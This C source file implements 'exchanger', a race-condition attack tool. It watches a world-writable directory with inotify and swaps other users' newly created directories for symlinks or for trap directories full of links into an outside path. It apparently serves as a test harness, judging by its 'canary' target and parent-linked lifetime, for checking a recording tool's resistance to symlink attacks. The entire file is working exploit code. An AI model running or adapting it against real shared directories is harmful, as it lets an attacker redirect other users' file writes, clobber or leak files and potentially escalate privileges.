/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exchanger SHARED OUTSIDE DELAY - attacks directories made in SHARED, where every user
 * may write
 *
 * Exchanges each experiment that appears there for something else within DELAY
 * microseconds: for a link to OUTSIDE, or for a directory of the attacker's, in which all
 * names that a recording writes are links to files of OUTSIDE. Ends with its parent.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *outside;

static void fill_trap(const char *trap)
{
	static const char *const names[] = {
		"notes",	"archive.log",
		"warnings.xml", "log.xml",
		"map.xml",	"overview",
		"archives",	"data.frameinfo",
		"profile",	".log.xml.record.part",
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		char from[4096], target[4096];

		snprintf(from, sizeof(from), "%s/%s", trap, names[i]);
		/* Half of them lead to an existing file, the others to a missing one. */
		snprintf(target, sizeof(target), "%s/%s", outside,
			 i % 2 ? "canary" : names[i]);
		if (symlink(target, from) < 0)
			return;
	}
}

static void make_trap(const char *trap)
{
	if (mkdir(trap, 0777) == 0)
		fill_trap(trap);
}

static void exchange_for(const char *trap, const char *name)
{
	renameat2(AT_FDCWD, trap, AT_FDCWD, name, RENAME_EXCHANGE);
}

static void exchange(unsigned how, const char *name)
{
	char trap[300];

	snprintf(trap, sizeof(trap), "trap-%s", name);
	switch (how) {
	case 0: /* a link to another directory */
		if (symlink(outside, trap) == 0)
			exchange_for(trap, name);
		break;
	case 1: /* a directory of the attacker's */
		make_trap(trap);
		exchange_for(trap, name);
		break;
	case 2: /* the same; may reuse the inode number of the removed directory */
		if (rmdir(name) == 0)
			make_trap(name);
		break;
	case 3: /* there and back again */
		make_trap(trap);
		exchange_for(trap, name);
		usleep(300);
		exchange_for(trap, name);
		break;
	}
}

/* Returns the last directory of a batch of events. It is too late to attack earlier ones.
 */
static const char *newest(const char *events, ssize_t length)
{
	const char *name = NULL;
	struct stat status;

	for (ssize_t at = 0; at < length;) {
		const struct inotify_event *event = (const void *)(events + at);

		at += (ssize_t)(sizeof(*event) + event->len);
		if (event->mask & IN_ISDIR && strncmp(event->name, "trap", 4) != 0 &&
		    lstat(event->name, &status) == 0 && status.st_uid != geteuid())
			name = event->name;
	}
	return name;
}

int main(int argc, char *argv[])
{
	char events[65536] __attribute__((aligned(8)));
	int notify = inotify_init1(IN_CLOEXEC);
	unsigned longest, round = 0;
	ssize_t length;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (argc != 4 || chdir(argv[1]) < 0 ||
	    inotify_add_watch(notify, ".", IN_CREATE | IN_ONLYDIR) < 0)
		return 2;
	outside = argv[2];
	longest = (unsigned)atoi(argv[3]);
	umask(0);
	while ((length = read(notify, events, sizeof(events))) > 0) {
		const char *name = newest(events, length);

		if (!name)
			continue;
		usleep(longest * (round / 4 % 16) / 16);
		exchange(round++ % 4, name);
	}
	return 1;
}
